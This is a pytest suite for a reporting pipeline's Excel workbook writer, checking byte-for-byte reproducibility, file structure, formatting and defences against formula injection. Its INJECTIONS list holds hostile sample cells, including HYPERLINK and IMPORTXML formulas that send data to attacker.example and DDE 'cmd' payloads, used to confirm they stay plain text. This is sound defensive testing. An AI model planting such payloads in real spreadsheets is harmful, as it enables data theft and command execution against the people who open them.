"""The file that a workbook becomes: the same bytes for the same book, and nothing in it unmeant."""

from __future__ import annotations

import hashlib
import re
import subprocess
import sys
import time
import warnings
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import date, datetime
from decimal import Decimal
from io import BytesIO
from typing import Any

import openpyxl
import pytest
from openpyxl.cell import _writer as cell_writer
from openpyxl.cell.cell import Cell as OpenpyxlCell
from openpyxl.comments.comment_sheet import CommentRecord
from openpyxl.workbook import Workbook
from openpyxl.worksheet._writer import WorksheetWriter
from openpyxl.writer.excel import ExcelWriter

from dsr_pipeline.reports import safe_text, xlsx_inside
from dsr_pipeline.reports.book import (
    Book,
    Cell,
    Day,
    Formula,
    Number,
    Printing,
    Properties,
    Sheet,
    Style,
    Text,
    Value,
)
from dsr_pipeline.reports.weekly_layout import weekly_book
from dsr_pipeline.reports.xlsx import write_xlsx
from dsr_pipeline.reports.xlsxwriter_book import write_with_xlsxwriter
from dsr_pipeline_tests.conftest import PROJECT
from dsr_pipeline_tests.reports import weekly_sample as sample

LOOK = sample.shipped_look()
INJECTIONS = (
    "=1+1",
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://attacker.example/",A1),"//a")',
    "<script>alert(1)</script> & ]]> \"quotes\" 'single'",
    '</t></is></c><c r="Z1"><f>1+1</f><v>9</v></c>',
    "#REF!",
    "http://attacker.example/",
    "internal:'About'!A1",
    "{=1}",
    "  two spaces  ",
    "two\nlines",
    "_x0041_ and _x000D_",
    "emoji 😀 and ﷽",
    "1-2",
    "007",
    "TRUE",
)
WRITERS = (write_xlsx, write_with_xlsxwriter)


def _book(*values: Value, **properties: Any) -> Book:
    cells = tuple(Cell(at, 1, value, "plain") for at, value in enumerate(values, start=1))
    return Book(
        sheets=(Sheet("Sheet", cells, {1: 20.0}, printing=Printing(footer_left="8 & 9 && &P")),),
        styles={"plain": Style()},
        properties=Properties("A title", "S", "K", "C", "maker", datetime(2025, 8, 19, 6), **properties),  # noqa: DTZ001
    )


def _parts(made: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(made)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _read(made: bytes, data_only: bool = False) -> Any:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        return openpyxl.load_workbook(BytesIO(made), data_only=data_only)


def _column(made: bytes) -> Iterator[OpenpyxlCell]:
    sheet = _read(made).worksheets[0]
    return (sheet.cell(row, 1) for row in range(1, sheet.max_row + 1))


@pytest.mark.parametrize("name", sample.every_kind())
def test_equal_reports_give_equal_bytes(name: str) -> None:
    first = write_xlsx(weekly_book(sample.every_kind()[name], LOOK))
    assert first == write_xlsx(weekly_book(sample.every_kind()[name], LOOK))


def test_another_process_gives_the_same_bytes() -> None:
    code = (
        "import hashlib\n"
        "from dsr_pipeline.reports.weekly_layout import weekly_book\n"
        "from dsr_pipeline.reports.xlsx import write_xlsx\n"
        "from dsr_pipeline_tests.reports import weekly_sample as sample\n"
        "book = weekly_book(sample.revised(), sample.shipped_look())\n"
        "print(hashlib.sha256(write_xlsx(book)).hexdigest())\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=PROJECT, capture_output=True, text=True, check=True,
        env={"PYTHONHASHSEED": "7", "PATH": ""},
    )  # fmt: skip
    here = write_xlsx(weekly_book(sample.revised(), LOOK))
    assert done.stdout.strip() == hashlib.sha256(here).hexdigest()


@pytest.mark.parametrize("write", WRITERS)
@pytest.mark.parametrize("name", sample.every_kind())
def test_a_workbook_opens_without_a_warning_and_holds_nothing_foreign(name: str, write: Any) -> None:
    made = write(weekly_book(sample.every_kind()[name], LOOK))
    names = _parts(made).keys()

    assert _read(made).sheetnames == ["Work Report", "Line Items", "Exceptions", "About"]
    assert not any("externalLink" in part or "vbaProject" in part for part in names)
    assert not any(b"TargetMode" in xml for part, xml in _parts(made).items() if part.endswith(".rels"))


def test_the_zip_says_nothing_of_when_and_where_it_was_made() -> None:
    made = write_xlsx(weekly_book(sample.plain(), LOOK))
    with zipfile.ZipFile(BytesIO(made)) as archive:
        entries = archive.infolist()
    assert {entry.date_time for entry in entries} == {(1980, 1, 1, 0, 0, 0)}
    assert {(entry.create_system, entry.external_attr) for entry in entries} == {(0, 0o644 << 16)}
    assert entries[0].filename == "[Content_Types].xml"
    core = _parts(made)["docProps/core.xml"].decode()
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core)) == {"2025-08-19T11:00:00Z"}


def test_what_was_computed_can_be_read_without_computing() -> None:
    """openpyxl writes no value of a formula, so that viewers that do not compute show nothing."""
    for name, report in sample.every_kind().items():
        book = weekly_book(report, LOOK)
        read = _read(write_xlsx(book), data_only=True)
        for sheet in book.sheets:
            for cell in sheet.cells:
                if not isinstance(cell.value, Formula):
                    continue
                shown = read[sheet.name].cell(cell.row, cell.column).value
                expected = cell.value.value
                if isinstance(expected, str):
                    assert shown == expected, (name, cell)
                else:
                    assert Decimal(repr(shown)) == Decimal(safe_text.computed(expected)), (name, cell)


def test_cells_are_what_the_layout_said() -> None:
    book = weekly_book(sample.revised(), LOOK)
    read = _read(write_xlsx(book))
    for sheet in book.sheets:
        made = read[sheet.name]
        for cell in sheet.cells:
            found = made.cell(cell.row, cell.column)
            style = book.styles[cell.style]
            assert found.font.b == style.bold
            assert found.font.sz == style.size
            assert (found.font.strike or False) == style.strike
            assert found.number_format == style.format
            assert (found.comment.text if found.comment else None) == cell.comment
            assert (found.hyperlink.location if found.hyperlink else None) == cell.link
            if style.fill:
                assert found.fill.fgColor.rgb.endswith(style.fill)
            if isinstance(cell.value, Formula):
                assert found.value == f"={cell.value.formula}"
                assert found.data_type == "f"
            elif isinstance(cell.value, Text):
                assert found.value == cell.value.text
                assert found.data_type == "s"
            elif isinstance(cell.value, Number):
                assert Decimal(repr(found.value)) == cell.value.value


def test_page_set_up_names_and_table_are_in_the_file() -> None:
    book = weekly_book(sample.plain(), LOOK)
    read = _read(write_xlsx(book))
    sheet = read["Work Report"]

    assert sheet.page_setup.scale == 90
    assert sheet.page_setup.paperSize == 1
    assert sheet.page_setup.orientation == "landscape"
    assert [each.id for each in sheet.row_breaks.brk] == list(book.sheets[0].printing.breaks_after)
    assert sheet.print_title_rows == "$1:$2"
    assert sheet.freeze_panes == "A2"
    assert sheet.sheet_view.showGridLines is False
    assert sheet.row_dimensions[1].height == 21
    assert sheet.column_dimensions["D"].width == 47
    assert sheet.oddFooter.left.text.strip() == "WR 90093002 · WE 08/17/2025 · Rev 1"
    assert len(sheet._images) == 1
    assert len(sheet._charts) == 1
    assert set(read.defined_names) == {"TotalBilled", "LineCount", "WeekEnding"}
    table = read["Line Items"].tables["LineItems"]
    assert table.ref == "A1:S71"
    assert [column.name for column in table.tableColumns][:3] == ["Work date", "Block", "Work request #"]
    assert read.custom_doc_props["dsr.content_hash"].value == "9f2c41d07be3a815" * 2
    drawing = _parts(write_xlsx(book))["xl/drawings/drawing101.xml"].decode()
    assert 'descr="Column chart of the amount billed on each day of the week"' in drawing
    assert 'descr="Logo of Example Line Contractors"' in drawing


def test_an_a4_report_is_printed_on_a4() -> None:
    look = replace(LOOK, rules=LOOK.rules.model_copy(update={"paper": "a4"}))
    read = _read(write_xlsx(weekly_book(sample.plain(), look)))
    assert {sheet.page_setup.paperSize for sheet in read.worksheets} == {9}


@pytest.mark.parametrize("write", WRITERS)
def test_no_text_of_the_data_is_ever_a_formula_a_link_or_a_number(write: Any) -> None:
    made = write(_book(*(Text(text) for text in INJECTIONS)))
    sheet = _parts(made)["xl/worksheets/sheet1.xml"]

    assert b"<f>" not in sheet
    assert b"hyperlink" not in sheet
    for cell, text in zip(_column(made), INJECTIONS, strict=True):
        assert cell.data_type == "s"
        read = str(cell.value).replace("_x005F_", "_")
        assert read == safe_text.clean(text)
        assert bool(cell.quotePrefix) == text.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_hostile_data_in_every_field_of_a_report_stays_text() -> None:
    of = tuple(
        sample.line(
            at,
            point=text,
            code=text,
            work_type=text,
            description=text,
            uom=text,
            source=text,
            dept=text,
            remark=text,
            credit_reason=text,
            amount=Decimal(-1),
        )
        for at, text in enumerate(INJECTIONS)
    )
    listed = tuple(sample.exception("rejected", None, "1", reason=text, quantity=text) for text in INJECTIONS)
    report = sample.report(
        of, exceptions=listed, work_request='=1+1"&', claimer="=2", customer="@x", rate_tables=("=3",)
    )
    book = weekly_book(report, LOOK)
    ours = {
        f"={cell.value.formula}"
        for sheet in book.sheets
        for cell in sheet.cells
        if isinstance(cell.value, Formula)
    }
    for sheet in _read(write_xlsx(book)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f" or cell.value in ours


@pytest.mark.parametrize("write", WRITERS)
def test_what_no_cell_can_hold_is_replaced_or_cut_where_one_sees_it(write: Any) -> None:
    texts = ("a\x00b\x0bc", "\ud800", "\ufffe", "x" * 40_000, "😀" * 20_000, "one\r\ntwo")
    cells = [str(cell.value) for cell in _column(write(_book(*(Text(text) for text in texts))))]

    assert cells[0] == "a\ufffdb\ufffdc"
    assert cells[1] == cells[2] == "\ufffd"
    assert len(cells[3]) == 32_767
    assert cells[3].endswith("…[truncated]")
    assert safe_text.utf16_length(cells[4]) <= 32_767
    assert cells[4].endswith("😀…[truncated]")
    assert cells[5] == "one\ntwo"


@pytest.mark.parametrize("write", WRITERS)
def test_a_number_beyond_fifteen_digits_is_refused(write: Any) -> None:
    write(_book(Number(Decimal("1234567890123.45")), Number(Decimal("-0.00")), Number(10**18)))
    with pytest.raises(safe_text.UnfitForExcel, match="more than 15 digits"):
        write(_book(Number(Decimal("12345678901234.56"))))
    with pytest.raises(safe_text.UnfitForExcel, match="no number"):
        write(_book(Number(Decimal("NaN"))))


def test_numbers_are_written_digit_by_digit() -> None:
    values = ("1234567890123.45", "0.1", "-0.00", "1E+3", "0.000001", "100")
    sheet = _parts(write_xlsx(_book(*(Number(Decimal(value)) for value in values))))
    written = re.findall(rb"<v>([^<]*)</v>", sheet["xl/worksheets/sheet1.xml"])
    assert written == [b"1234567890123.45", b"0.1", b"0", b"1000", b"0.000001", b"100"]


@pytest.mark.parametrize("write", WRITERS)
def test_a_day_that_excel_counts_wrongly_is_a_text(write: Any) -> None:
    cells = list(_column(write(_book(Day(date(1900, 2, 28)), Day(date(1900, 3, 1)), Day(date(2025, 8, 11))))))
    assert [cell.value for cell in cells] == ["1900-02-28", 61, 45880]


def test_names_of_sheets_are_what_excel_takes() -> None:
    taken: set[str] = set()
    names: list[str] = []
    for name in ("a/b:c", "'quoted'", "History", "", "x" * 40, "X" * 40, "[one]", "One", "one"):
        names.append(safe_text.sheet_name(name, taken))
        taken.add(names[-1].casefold())

    assert names[:4] == ["a b c", "quoted", "History 1", "Sheet"]
    assert len(taken) == len(names)
    assert all(0 < len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in names)


def test_a_footer_shows_its_ampersands_and_keeps_its_size() -> None:
    sheet = _parts(write_xlsx(_book(Text("x"))))["xl/worksheets/sheet1.xml"].decode()
    footer = re.search(r"<oddFooter>(.*?)</oddFooter>", sheet)
    assert footer is not None
    assert (
        "&amp;L&amp;8 8 &amp;&amp; 9" in re.sub(r"&amp;\d+ ", "&amp;8 ", footer[1])
        or "8 &amp;&amp; 9" in footer[1]
    )
    assert not re.search(r"&amp;8\d", footer[1])


def test_a_formula_of_ours_that_excel_would_refuse_is_told() -> None:
    with pytest.raises(safe_text.UnfitForExcel, match="formula"):
        write_xlsx(_book(Formula("1+" * 5000 + "1", 5001)))
    with pytest.raises(safe_text.UnfitForExcel, match="formula"):
        write_xlsx(_book(Formula("=1", 1)))


def test_both_writers_make_the_same_cells() -> None:
    book = weekly_book(sample.revised(), LOOK)
    ours, other = _read(write_xlsx(book)), _read(write_with_xlsxwriter(book))
    for sheet in book.sheets:
        for cell in sheet.cells:
            one = ours[sheet.name].cell(cell.row, cell.column)
            two = other[sheet.name].cell(cell.row, cell.column)
            assert one.value == two.value, (sheet.name, cell)
            assert one.number_format == two.number_format
            assert one.font.b == two.font.b
            assert (one.hyperlink is None) == (two.hyperlink is None)


def test_a_rich_workbook_takes_no_more_time_than_asked() -> None:
    """60 ms of CPU each, layout and file; the best of several, because the machine is shared."""
    report = sample.plain(70)
    write_xlsx(weekly_book(report, LOOK))
    taken: list[float] = []
    for _ in range(7):
        begun = time.process_time()
        write_xlsx(weekly_book(report, LOOK))
        taken.append(time.process_time() - begun)
    assert min(taken) < 0.060


def test_the_insides_of_openpyxl_are_as_xlsx_inside_needs_them() -> None:
    """Fails with the name of what a new version of openpyxl changed."""
    book = Workbook()
    sheet: Any = book.worksheets[0]
    cell: Any = sheet.cell(1, 1, "text")
    assert sheet._cells == {(1, 1): cell}, "Worksheet._cells: cells by (row, column)"
    assert {"parent", "row", "column", "_value", "data_type", "_hyperlink", "_comment", "_style"} <= {
        slot for base in OpenpyxlCell.__mro__ for slot in getattr(base, "__slots__", ())
    }, "slots of Cell"
    cell.font = openpyxl.styles.Font(b=True)
    assert xlsx_inside.style_number(book, cell) == 1, "Workbook._cell_styles, Cell._style"
    assert callable(cell_writer.write_cell), "openpyxl.cell._writer.write_cell(xf, worksheet, cell, styled)"
    assert callable(CommentRecord.from_cell), "CommentRecord.from_cell"
    for name in ("write_rows", "rows", "write_row", "write", "read"):
        assert callable(getattr(WorksheetWriter, name, None)), f"WorksheetWriter.{name}"
    for name in ("_write_worksheets", "_write_images", "_write_charts", "_write_drawing", "write_worksheet"):
        assert callable(getattr(ExcelWriter, name, None)), f"ExcelWriter.{name}"
    writer: Any = ExcelWriter(book, xlsx_inside.Parts())
    for name in ("manifest", "_drawings", "_charts"):
        assert hasattr(writer, name), f"ExcelWriter.{name}"
    xml = _parts(write_xlsx(_book(Formula("1+1", 2))))["xl/worksheets/sheet1.xml"]
    assert b"<f>1+1</f><v>2</v>" in xml, "how a formula is written, so that its value can be put beside it"
